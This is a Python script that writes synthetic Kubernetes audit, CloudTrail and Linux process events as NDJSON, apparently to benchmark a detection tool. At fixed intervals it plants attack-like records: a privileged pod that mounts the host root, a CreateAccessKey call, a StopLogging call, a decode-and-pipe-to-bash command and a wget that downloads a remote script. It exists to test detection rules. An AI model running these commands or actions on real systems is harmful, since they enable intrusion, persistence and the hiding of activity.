#!/usr/bin/env python3
"""Writes a deterministic mix of realistic security events as NDJSON for bench/detect.sh.

Kubernetes audit events (audit.k8s.io/v1, RequestResponse for writes), CloudTrail records and
Linux process-start events (Sigma process_creation fields), in proportions given on the
command line. A few events in each thousand are attack-like so rules fire.
Usage: detect_events.py N [K8S% CLOUDTRAIL% PROCESS%] > events.ndjson
"""
import json
import random
import sys

n = int(sys.argv[1]) if len(sys.argv) > 1 else 100000
shares = [int(x) for x in sys.argv[2:5]] if len(sys.argv) >= 5 else [50, 25, 25]
rng = random.Random(7)
users = ["alice@example.com", "bob@example.com", "system:serviceaccount:ci:deployer",
         "system:node:node-1", "system:kube-controller-manager", "system:kube-scheduler"]
namespaces = ["default", "prod", "staging", "kube-system", "monitoring"]
resources = ["pods", "deployments", "configmaps", "secrets", "services", "leases", "events"]
verbs = ["get", "list", "watch", "create", "update", "patch", "delete"]


def ts(i):
    s = 1700000000 + i // 50
    return "2023-11-14T%02d:%02d:%02d.%06dZ" % ((s // 3600) % 24, (s // 60) % 60, s % 60, (i * 37) % 1000000)


def k8s(i):
    user = rng.choice(users)
    ns = rng.choice(namespaces)
    res = rng.choice(resources)
    verb = rng.choice(verbs)
    sub = None
    req = None
    if i % 997 == 0:
        res, verb, sub = "pods", "create", "exec"
    elif i % 991 == 0:
        res, verb = "pods", "create"
        req = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "dbg", "namespace": ns},
               "spec": {"hostNetwork": True, "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
                        "containers": [{"name": "c", "image": "alpine:3.19",
                                        "securityContext": {"privileged": True}}]}}
    elif verb in ("create", "update") and res == "pods":
        req = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "web-%d" % i, "namespace": ns},
               "spec": {"containers": [{"name": "web", "image": "nginx:1.25",
                                        "resources": {"limits": {"cpu": "500m"}}}]}}
    code = 403 if i % 101 == 0 else (201 if verb == "create" else 200)
    ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1",
          "level": "RequestResponse" if req else "Metadata",
          "auditID": "%08x-0000-4000-8000-%012x" % (i, i), "stage": "ResponseComplete",
          "requestURI": "/api/v1/namespaces/%s/%s%s" % (ns, res, "/web/" + sub if sub else ""),
          "verb": verb, "user": {"username": user, "groups": ["system:authenticated"]},
          "sourceIPs": ["10.0.%d.%d" % (i % 7, i % 250)], "userAgent": "kubectl/v1.29.2 (linux/amd64)",
          "objectRef": {"resource": res, "namespace": ns, "name": "web", "apiVersion": "v1"},
          "responseStatus": {"metadata": {}, "code": code},
          "requestReceivedTimestamp": ts(i), "stageTimestamp": ts(i)}
    if sub:
        ev["objectRef"]["subresource"] = sub
    if req:
        ev["requestObject"] = req
    return ev


def cloudtrail(i):
    names = [("DescribeInstances", "ec2.amazonaws.com"), ("GetObject", "s3.amazonaws.com"),
             ("AssumeRole", "sts.amazonaws.com"), ("ListBuckets", "s3.amazonaws.com"),
             ("GetCallerIdentity", "sts.amazonaws.com"), ("DescribeSecurityGroups", "ec2.amazonaws.com")]
    name, src = rng.choice(names)
    params = None
    if i % 983 == 0:
        name, src = "CreateAccessKey", "iam.amazonaws.com"
        params = {"userName": "ops"}
    elif i % 977 == 0:
        name, src = "StopLogging", "cloudtrail.amazonaws.com"
        params = {"name": "org-trail"}
    return {"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "principalId": "AIDA%012d" % (i % 50),
            "arn": "arn:aws:iam::123456789012:user/u%d" % (i % 50), "accountId": "123456789012",
            "userName": "u%d" % (i % 50)}, "eventTime": ts(i)[:19] + "Z", "eventSource": src,
            "eventName": name, "awsRegion": "eu-west-1", "sourceIPAddress": "198.51.100.%d" % (i % 250),
            "userAgent": "aws-cli/2.15.0", "requestParameters": params, "responseElements": None,
            "requestID": "%032x" % i, "eventID": "%032x" % (i * 7), "readOnly": name.startswith(("Describe", "Get", "List")),
            "eventType": "AwsApiCall", "managementEvent": True, "recipientAccountId": "123456789012"}


def process(i):
    cmds = [("/usr/bin/ls", "ls -la /srv"), ("/usr/bin/python3", "python3 app.py"),
            ("/usr/bin/curl", "curl -s https://api.example.com/health"), ("/usr/bin/grep", "grep -r TODO ."),
            ("/bin/bash", "bash -c make test"), ("/usr/sbin/nginx", "nginx -g daemon off;")]
    image, cmd = rng.choice(cmds)
    if i % 967 == 0:
        image, cmd = "/usr/bin/base64", "base64 -d /tmp/x | bash"
    elif i % 953 == 0:
        image, cmd = "/usr/bin/wget", "wget http://203.0.113.9/x.sh -O /tmp/x.sh"
    return {"UtcTime": ts(i), "ProcessId": 1000 + i % 30000, "Image": image, "CommandLine": cmd,
            "CurrentDirectory": "/srv", "User": "app", "ParentImage": "/bin/bash",
            "ParentCommandLine": "bash", "ParentProcessId": 900, "hostname": "node-%d" % (i % 5)}


kinds = [k8s] * shares[0] + [cloudtrail] * shares[1] + [process] * shares[2]
out = sys.stdout
for i in range(n):
    out.write(json.dumps(kinds[i % len(kinds)](i), separators=(",", ":")))
    out.write("\n")
